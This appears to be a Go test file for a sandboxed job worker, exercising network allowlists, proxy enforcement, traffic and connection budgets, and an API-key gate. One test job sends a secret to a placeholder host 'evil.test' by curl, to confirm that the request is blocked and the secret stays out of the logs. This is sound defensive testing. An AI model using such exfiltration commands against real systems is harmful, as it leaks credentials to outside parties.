package worker

import (
	"context"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"sync"
	"testing"

	"github.com/penstock-run/penstock/jobs"
	"github.com/penstock-run/penstock/jobs/event"
	"github.com/penstock-run/penstock/sandbox"
	"github.com/penstock-run/penstock/sandbox/backends"
	"github.com/penstock-run/penstock/sandbox/exectest"
	"github.com/penstock-run/penstock/sandbox/policy"
	"github.com/penstock-run/penstock/worker/agent"
	"github.com/penstock-run/penstock/worker/agent/builtin"
	"github.com/penstock-run/penstock/worker/gate"
)

// reachable gives the worker a world in which every name has a server: this
// one. It answers with the name that it was asked for.
func (f *field) reachable() (ca string) {
	f.Helper()
	exectest.Need(f, "curl")
	answer := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, "hello from %s\n", r.Host) })
	plain, secure := httptest.NewServer(answer), httptest.NewTLSServer(answer)
	f.Cleanup(plain.Close)
	f.Cleanup(secure.Close)
	f.cfg.Network.Resolve = func(_ context.Context, host string) ([]netip.Addr, error) {
		if host == "inside.test" {
			return []netip.Addr{netip.MustParseAddr("10.1.2.3")}, nil
		}
		return []netip.Addr{netip.MustParseAddr("203.0.113.10")}, nil
	}
	f.cfg.Network.Dial = func(ctx context.Context, a netip.AddrPort) (net.Conn, error) {
		to := secure
		if a.Port() == 80 {
			to = plain
		}
		return (&net.Dialer{}).DialContext(ctx, "tcp", to.Listener.Addr().String())
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: secure.Certificate().Raw}))
}

func dataOf[T any](t *testing.T, events []jobs.Event, kind jobs.Kind) (all []T) {
	t.Helper()
	for _, e := range events {
		if e.Kind != kind {
			continue
		}
		var d T
		if err := json.Unmarshal(e.Data, &d); err != nil {
			t.Fatal(err)
		}
		all = append(all, d)
	}
	return all
}

// Setup, agent and checks reach the same hosts, with the proxy and without;
// what is refused is told once, and kept.
func TestAJobReachesTheHostsOfItsList(t *testing.T) {
	t.Parallel()
	f := newField(t)
	ca := f.reachable()
	f.cfg.Network.Hosts = []string{"worker.test"}
	p, err := policy.Parse("/p.yaml", []byte("hosts: [policy.test, example.com, job.test]"))
	f.must(err)
	f.cfg.Policy.Policy = p
	var mu sync.Mutex
	var kept []policy.Violation
	f.cfg.Refused = func(v policy.Violation) { mu.Lock(); defer mu.Unlock(); kept = append(kept, v) }
	var used []event.JailNetwork
	f.cfg.Hooks.Network = func(_ jobs.Record, u event.JailNetwork) { used = append(used, u) }
	const get = "curl -sS -m 20 --fail "
	job := f.job(get + "http://worker.test/ && " + get + "http://policy.test/ && " + get + "https://example.com/ && " +
		get + "--noproxy '*' https://example.com/ && " +
		"{ " + get + "'http://evil.test/?key=secret'; curl -sS http://evil.test/; curl -sS http://inside.test/; " + get + "http://127.0.0.1:1/; true; }")
	job.Files = []jobs.File{{Name: "ca.pem", Content: []byte(ca)}}
	job.Setup = []string{get + "http://job.test/ && mkdir -p d && printf %s \"$CA\" > ca.pem"}
	job.Check = []string{get + "--noproxy '*' http://job.test/"}
	job.Env = map[string]string{"CURL_CA_BUNDLE": "/workspace/ca.pem", "CA": ca}
	job.Sandbox.Network, job.Sandbox.AllowHosts = jobs.NetworkAllowlist, []string{"job.test", "example.com"}
	rec, events := f.run(job)
	lines := ""
	for _, l := range dataOf[event.OutputLine](t, events, jobs.OutputLine) {
		lines += l.Text + "\n"
	}
	if rec.Outcome != jobs.Success {
		t.Fatalf("%s %s (%s)\n%s", rec.Outcome, rec.Reason, rec.Message, lines)
	}
	for _, want := range []string{"hello from worker.test", "hello from policy.test", "hello from example.com",
		"evil.test:80 is not on the list of allowed hosts", "sandbox.allow_hosts"} {
		if !strings.Contains(lines, want) {
			t.Errorf("the agent did not read %q in:\n%s", want, lines)
		}
	}
	want := map[string]bool{"evil.test:80 not-listed": true, "inside.test:80 not-listed": true}
	for _, v := range dataOf[event.JailViolation](t, events, jobs.JailViolation) {
		what := fmt.Sprintf("%s:%d %s", v.Host, v.Port, v.Reason)
		if !want[what] || v.Kind != "network" {
			t.Errorf("told %+v, which was not to be told, or twice", v)
		}
		delete(want, what)
	}
	if len(want) > 0 || len(kept) != 2 || kept[0].Kind != policy.KindHost || kept[0].What != "evil.test:80" {
		t.Errorf("not told: %v; kept %+v", want, kept)
	}
	sum := dataOf[event.JailNetwork](t, events, jobs.NetworkUsed)
	if len(sum) != 1 || len(used) != 1 || sum[0].Refused != 3 || len(sum[0].Hosts) != 4 || sum[0].Received == 0 {
		t.Errorf("summed up as %+v, the hook heard %+v", sum, used)
	}
	for _, e := range events {
		if (e.Kind == jobs.JailViolation || e.Kind == jobs.NetworkUsed) && strings.Contains(string(e.Data), "secret") {
			t.Errorf("what was asked for is in the log: %s", e.Data)
		}
	}
}

// All programs of an attempt share what may go out and come in: the less of
// what the job asks for and of what the policy gives one that asks for nothing.
func TestTrafficOfAJobIsBounded(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		asked  jobs.Bytes
		policy string
		ok     bool
	}{
		"enough":           {asked: 1 << 20, ok: true},
		"none asked for":   {ok: true},
		"by the job":       {asked: 2000},
		"by the policy":    {policy: "limits: {traffic: 2000}"},
		"both, the job's":  {asked: 2000, policy: "limits: {traffic: 1MiB}"},
		"both, and enough": {asked: 1 << 20, policy: "limits: {traffic: 1MiB}", ok: true},
	} {
		t.Run(name, func(t *testing.T) {
			f := newField(t)
			f.reachable()
			p, err := policy.Parse("/p.yaml", []byte(c.policy))
			f.must(err)
			f.cfg.Policy.Policy = p
			const get = "curl -sS --fail -m 20 http://job.test/"
			job := f.job("for i in $(seq 20); do " + get + " || exit 7; done")
			job.Setup = []string{get} // and counts
			job.Retry.MaxAttempts = 1
			job.Sandbox.Network, job.Sandbox.AllowHosts, job.Sandbox.Limits.Traffic = jobs.NetworkAllowlist, []string{"job.test"}, c.asked
			rec, events := f.run(job)
			told := dataOf[event.JailViolation](t, events, jobs.JailViolation)
			if (rec.Outcome == jobs.Success) != c.ok || (len(told) == 0) != c.ok {
				t.Fatalf("%s %s (%s), told %+v", rec.Outcome, rec.Reason, rec.Message, told)
			}
			if sum := dataOf[event.JailNetwork](t, events, jobs.NetworkUsed)[0]; !c.ok && (told[0].Reason != "budget" || sum.Sent+sum.Received > 4000) {
				t.Errorf("told %+v, used %+v", told, sum)
			}
		})
	}
}

func TestConnectionsOfAJobAreBounded(t *testing.T) {
	t.Parallel()
	f := newField(t)
	f.reachable()
	p, err := policy.Parse("/p.yaml", []byte("limits: {connections: 1}"))
	f.must(err)
	f.cfg.Policy.Policy = p
	job := f.job(`exec bash -c 'exec 3<>/dev/tcp/127.0.0.1/3129 && printf "GET http://job.test/ HTTP/1.1\r\nHost: job.test\r\n\r\n" >&3 &&
		read -r answer <&3 && [[ $answer == *200* ]] && ! curl -sS --fail -m 20 http://job.test/ && exec 3>&-'`)
	job.Sandbox.Network, job.Sandbox.AllowHosts = jobs.NetworkAllowlist, []string{"job.test"}
	rec, events := f.run(job)
	told := dataOf[event.JailViolation](t, events, jobs.JailViolation)
	if rec.Outcome != jobs.Success || len(told) != 1 || told[0].Reason != "budget" {
		t.Errorf("%s %s (%s), told %+v", rec.Outcome, rec.Reason, rec.Message, told)
	}
}

// Nothing that a job did not ask for, or its worker does not permit.
func TestNetworksThatAreNotGiven(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		policy string
		change func(*jobs.Job)
		reason jobs.Reason
		says   string
	}{
		{"none by default", "", nil, jobs.AgentFailed, ""},
		{"no more than the policy permits", "network: allowlist", func(j *jobs.Job) { j.Sandbox.Network = jobs.NetworkFull }, jobs.PolicyDenied, "network: full"},
		{"hosts beyond the policy's", "hosts: [a.test]", func(j *jobs.Job) {
			j.Sandbox.Network, j.Sandbox.AllowHosts = jobs.NetworkAllowlist, []string{"example.com"}
		}, jobs.PolicyDenied, "hosts: example.com"},
		{"a policy that lets nothing out", "preset: offline", func(j *jobs.Job) { j.Sandbox.Network = jobs.NetworkAllowlist }, jobs.SandboxMissing, "offline"},
		{"an empty list", "", func(j *jobs.Job) { j.Sandbox.Network = jobs.NetworkAllowlist }, jobs.AgentFailed, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newField(t)
			f.reachable()
			p, err := policy.Parse("/p.yaml", []byte(tt.policy))
			f.must(err)
			f.cfg.Policy.Policy = p
			job := f.job("exec curl -sS --fail -m 20 http://example.com/")
			job.Retry.MaxAttempts = 1
			if tt.change != nil {
				tt.change(&job)
			}
			if rec, events := f.run(job); rec.Reason != tt.reason || !strings.Contains(rec.Message, tt.says) {
				t.Errorf("%s %s (%s), want %s and %q; %s", rec.Outcome, rec.Reason, rec.Message, tt.reason, tt.says, kinds(events))
			}
		})
	}
}

// With the host's network an agent reaches what the host reaches, and the
// model API without its key all the same.
func TestAJobWithTheHostsNetwork(t *testing.T) {
	t.Parallel()
	f := newField(t)
	f.reachable()
	asked := make(chan string, 10)
	api := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { asked <- r.Header.Get("X-Api-Key") }))
	defer api.Close()
	g, err := gate.New(gate.Config{Key: "real-key", Upstream: api.URL})
	f.must(err)
	defer g.Close()
	f.cfg.Gates = map[string]*gate.Gate{"anthropic": g}
	f.cfg.Agents = builtin.Agents(agent.Config{})
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, "a service of the host") }))
	defer server.Close()
	job := f.job("curl -sS -m 20 " + server.URL + ` && curl -sS -m 20 -H "x-api-key: $ANTHROPIC_API_KEY" "$ANTHROPIC_BASE_URL/v1/models"`)
	job.Check = []string{"curl -sS -m 20 " + server.URL}
	job.Sandbox.Network = jobs.NetworkFull
	rec, events := f.run(job)
	if rec.Outcome != jobs.Success || !strings.Contains(fmt.Sprint(dataOf[event.OutputLine](t, events, jobs.OutputLine)), "a service of the host") {
		t.Fatalf("%s %s (%s)", rec.Outcome, rec.Reason, rec.Message)
	}
	select {
	case key := <-asked:
		if key != "real-key" {
			t.Errorf("the API was asked with the key %q", key)
		}
	default:
		t.Error("the API was not asked")
	}
}

// Without a jail there is the proxy alone, and the result says so.
func TestAnAllowListWithoutAJail(t *testing.T) {
	t.Parallel()
	f := newField(t)
	f.reachable()
	f.cfg.Backend = func(name string) (sandbox.Backend, error) { return backends.New(t.Context(), name) }
	job := f.job("curl -sS --fail -m 20 http://example.com/ && ! curl -sS --fail -m 20 http://evil.test/")
	job.Sandbox.Backend, job.Sandbox.Network, job.Sandbox.AllowHosts = "none", jobs.NetworkAllowlist, []string{"example.com"}
	for _, feature := range []sandbox.Feature{
		sandbox.FeatureFiles, sandbox.FeatureProcesses, sandbox.FeatureIPC, sandbox.FeatureNetwork,
		sandbox.FeatureSyscalls, sandbox.FeaturePrivileges, sandbox.FeatureTemporary,
	} {
		job.Sandbox.AllowWeaker = append(job.Sandbox.AllowWeaker, string(feature))
	}
	rec, events := f.run(job)
	result, err := f.eye.store.Result(t.Context(), rec)
	f.must(err)
	if rec.Outcome != jobs.Success || !strings.Contains(fmt.Sprint(result.Weaker), "network") || count(events, jobs.JailViolation) != 1 {
		t.Errorf("%s %s (%s), weaker %v; %s", rec.Outcome, rec.Reason, rec.Message, result.Weaker, kinds(events))
	}
}
